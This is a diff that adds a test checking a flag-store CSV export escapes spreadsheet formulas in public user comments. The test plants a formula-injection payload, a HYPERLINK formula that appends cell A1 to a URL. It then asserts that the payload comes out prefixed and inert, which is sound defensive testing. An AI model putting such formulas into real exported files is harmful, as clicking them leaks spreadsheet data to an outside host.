@@ -43,3 +43,12 @@ def test_export_command(tmp_path: Path) -> None:
     FlagStore(tmp_path).add("good", "ok", {}, None)
     assert main([str(tmp_path), str(tmp_path / "out.csv")]) == 0
     assert "ok" in (tmp_path / "out.csv").read_text()
+
+
+def test_csv_export_never_hands_a_formula_to_the_spreadsheet(tmp_path: Path) -> None:
+    """Comments come from any public user; the reviewer opens the CSV in a spreadsheet."""
+    store = FlagStore(tmp_path / "db")
+    store.add("wrong", '=HYPERLINK("http://host/?"&A1,"open")', {"image": "a"}, None)
+    with export_csv(store, tmp_path / "flags.csv").open(newline="") as fh:
+        (row,) = list(csv.DictReader(fh))
+    assert row["comment"] == '\'=HYPERLINK("http://host/?"&A1,"open")'
